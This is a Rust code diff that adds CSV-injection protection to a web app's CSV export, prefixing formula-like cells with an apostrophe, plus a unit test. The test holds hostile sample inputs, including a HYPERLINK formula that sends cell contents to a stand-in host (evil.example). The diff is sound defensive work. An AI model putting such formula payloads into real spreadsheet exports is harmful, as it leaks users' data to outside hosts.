@@ -1,4 +1,5 @@
-//! CSV downloads: a table written with the `csv` crate, sent as an attachment.
+//! CSV downloads: a table written with the `csv` crate, sent as an attachment. Every cell that a
+//! spreadsheet would read as a formula is defused first.
 
 use axum::http::{HeaderValue, header};
 use axum::response::{IntoResponse, Response};
@@ -37,6 +38,19 @@ pub fn judgment_table(summary: &[JudgmentSummary]) -> Table {
     }
 }
 
+/// A cell as text a spreadsheet shows and never runs: Excel and its kin treat a cell beginning
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (OWASP's CSV injection), so such
+/// a cell gets a leading apostrophe. Negative numbers are ours, not users', and stay as they are.
+fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+        || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+    if formula {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 /// # Errors
 /// Only if writing to memory fails.
 pub fn attachment(filename: &str, table: &Table) -> Result<Response> {
@@ -45,7 +59,8 @@ pub fn attachment(filename: &str, table: &Table) -> Result<Response> {
         .write_record(&table.header)
         .map_err(anyhow::Error::from)?;
     for row in &table.rows {
-        writer.write_record(row).map_err(anyhow::Error::from)?;
+        let cells = row.iter().map(|cell| defused(cell).into_owned());
+        writer.write_record(cells).map_err(anyhow::Error::from)?;
     }
     let body = writer
         .into_inner()
@@ -61,4 +76,22 @@ pub fn attachment(filename: &str, table: &Table) -> Result<Response> {
         headers.insert(header::CONTENT_DISPOSITION, value);
     }
     Ok(response)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_defused_and_numbers_kept() {
+        assert_eq!(
+            defused("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"),
+            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")"
+        );
+        for hostile in ["+1+1", "@SUM(A1)", "-2+3", "\tx", "\r=1"] {
+            assert!(defused(hostile).starts_with('\''), "{hostile}");
+        }
+        assert_eq!(defused("-1250"), "-1250");
+        assert_eq!(defused("示范市教育局"), "示范市教育局");
+    }
 }
